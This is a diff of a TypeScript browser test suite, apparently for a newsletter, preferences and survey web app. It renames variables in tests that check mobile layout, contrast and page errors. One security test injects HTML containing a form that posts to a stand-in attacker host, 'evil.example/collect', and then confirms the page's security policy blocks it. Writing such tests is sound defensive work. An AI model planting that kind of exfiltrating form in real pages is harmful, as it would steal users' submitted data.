@@ -20,12 +20,12 @@ afterAll(async () => {
   await own?.server.close();
 });
 
-async function open(path: string, options: BrowserContextOptions = {}): Promise<{ page: Page; complaints: string[] }> {
+async function open(path: string, options: BrowserContextOptions = {}): Promise<{ page: Page; pageErrors: string[] }> {
   const context = await browser.newContext({ viewport: { width: 360, height: 740 }, ...options });
   const page = await context.newPage();
-  const complaints = collectPageErrors(page);
+  const pageErrors = collectPageErrors(page);
   await page.goto(`${origin}${path}`);
-  return { page, complaints };
+  return { page, pageErrors };
 }
 
 const overflow = (page: Page) =>
@@ -50,15 +50,15 @@ const questions = [
 
 describe.each(["light", "dark"] as const)("in %s mode, on a phone, without JavaScript", (colorScheme) => {
   const options = { colorScheme, javaScriptEnabled: false };
-  const looking = { colorScheme };
+  const withScript = { colorScheme };
 
   it("the preferences page fits and works", async () => {
     const list = await own.aList({ publicName: "Novinky a tipy z naší zahrady, jednou za měsíc" });
     const contact = await own.aContact({ listIds: [list.id], language: "cs" });
     const path = `/u/${aToken(own, { purpose: "unsubscribe", contactId: contact.id })}`;
-    const seen = await open(path, looking);
+    const seen = await open(path, withScript);
     expect(await overflow(seen.page)).toBe(0);
-    expect(seen.complaints).toEqual([]);
+    expect(seen.pageErrors).toEqual([]);
     const [text, back] = Object.values(Object(await colors(seen.page, "button[value=save]")));
     expect(text).not.toBe(back);
 
@@ -75,9 +75,9 @@ describe.each(["light", "dark"] as const)("in %s mode, on a phone, without JavaS
   it("a survey fits and works", async () => {
     const body = { name: `Survey ${colorScheme}`, title: "Jak se vám u nás líbí?", questions, active: true };
     const survey = await own.api.ok("createSurvey", { body });
-    const seen = await open(`/s/${survey.key}`, looking);
+    const seen = await open(`/s/${survey.key}`, withScript);
     expect(await overflow(seen.page)).toBe(0);
-    expect(seen.complaints).toEqual([]);
+    expect(seen.pageErrors).toEqual([]);
 
     const { page } = await open(`/s/${survey.key}`, options);
     await page.getByLabel("Co můžeme zlepšit?").fill("Nic");
@@ -102,14 +102,14 @@ it("a landing page runs and loads nothing, even if something passed the sanitize
     <form action="https://evil.example/collect" method="post"><button>Send</button></form>`;
   await own.ctx.db.sql`update landing_page set html = ${html} where tenant_id = ${own.tenantId} and id = ${id}`;
   const page = await (await browser.newContext()).newPage();
-  const complaints = collectPageErrors(page);
+  const pageErrors = collectPageErrors(page);
   const asked: string[] = [];
   page.on("request", (request) => asked.push(request.url().replace(origin, "")));
   await page.goto(`${origin}/l/${slug}`, { waitUntil: "load" });
   // Scripts do not run in this page, including those of the test: only the mouse works.
   await page.mouse.click(100, 100);
-  await vi.waitFor(() => expect(complaints.join()).toContain("form-action"));
+  await vi.waitFor(() => expect(pageErrors.join()).toContain("form-action"));
   expect(asked.filter((url) => /healthz\?(script|handler|frame)|evil/.test(url))).toEqual([]);
-  expect(complaints.join()).toContain("Blocked script execution");
+  expect(pageErrors.join()).toContain("Blocked script execution");
   expect(page.url()).toBe(`${origin}/l/${slug}`);
 });
